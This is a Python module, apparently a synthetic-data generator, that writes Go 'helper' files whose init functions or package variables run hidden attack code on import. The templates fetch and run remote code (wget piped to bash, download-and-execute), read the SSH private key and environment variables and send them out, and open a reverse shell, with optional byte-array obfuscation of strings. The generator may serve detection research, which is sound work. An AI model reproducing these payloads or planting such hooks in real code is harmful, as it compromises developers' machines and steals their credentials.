"""Go shapes of the TUNE family: init functions and package variables that download, run or send."""
import json
import posixpath

from context import render

plain = json.dumps


def byte_text(text):
    return f"string([]byte{{{', '.join(str(b) for b in text.encode())}}})"


SHELL = (["os/exec"], """_ = exec.Command(§/bin/sh§, §-c§, §wget -O - {url} | /bin/bash &§).Start()""")
DOWNLOAD = (["net/http", "os", "os/exec", "io"], """
	if <A>, err := http.Get(§{url}§); err == nil {{
		<B>, _ := os.CreateTemp(§§, §{file}§)
		_, _ = io.Copy(<B>, <A>.Body)
		_ = <B>.Chmod(0o755)
		_ = <B>.Close()
		_ = exec.Command(<B>.Name()).Start()
	}}""")
STEAL = (["net/http", "os", "strings", "path/filepath"], """
	<A>, _ := os.UserHomeDir()
	<B>, _ := os.ReadFile(filepath.Join(<A>, §.ssh/id_rsa§))
	_, _ = http.Post(§{url}§, §text/plain§, strings.NewReader(strings.Join(os.Environ(), §;§)+string(<B>)))""")
REVERSE = (["net", "os/exec"], """
	if <A>, err := net.Dial(§tcp§, §{ip}:{port}§); err == nil {{
		<B> := exec.Command(§/bin/sh§)
		<B>.Stdin, <B>.Stdout, <B>.Stderr = <A>, <A>, <A>
		_ = <B>.Run()
	}}""")


def code(ctx):
    imports, body = ctx.rng.choice([SHELL, DOWNLOAD, STEAL, REVERSE])
    writer = ctx.rng.choice([plain, plain, byte_text])
    return imports, render(ctx.fill(body.format(url=ctx.url(), ip=ctx.ip(), port=ctx.port(), file=ctx.token(5))), writer)


def new_file(module, ctx, starter):
    folder, package, _ = module.package()
    imports, body = code(ctx)
    lines = "".join(f'\t"{name}"\n' for name in sorted(imports))
    module.bundle.put(posixpath.join(folder, ctx.ident().lower().strip("_") + "_helper.go"), f"package {package}\n\nimport (\n{lines})\n\n" + starter.format(body=body, name=ctx.ident()))


def init_function(module, ctx):
    new_file(module, ctx, "func init() {{\n\t{body}\n}}\n")


def variable(module, ctx):
    new_file(module, ctx, "var {name} = func() int {{\n\t{body}\n\treturn 0\n}}()\n\nvar _ = {name}\n")


SHAPES = [init_function, init_function, variable]
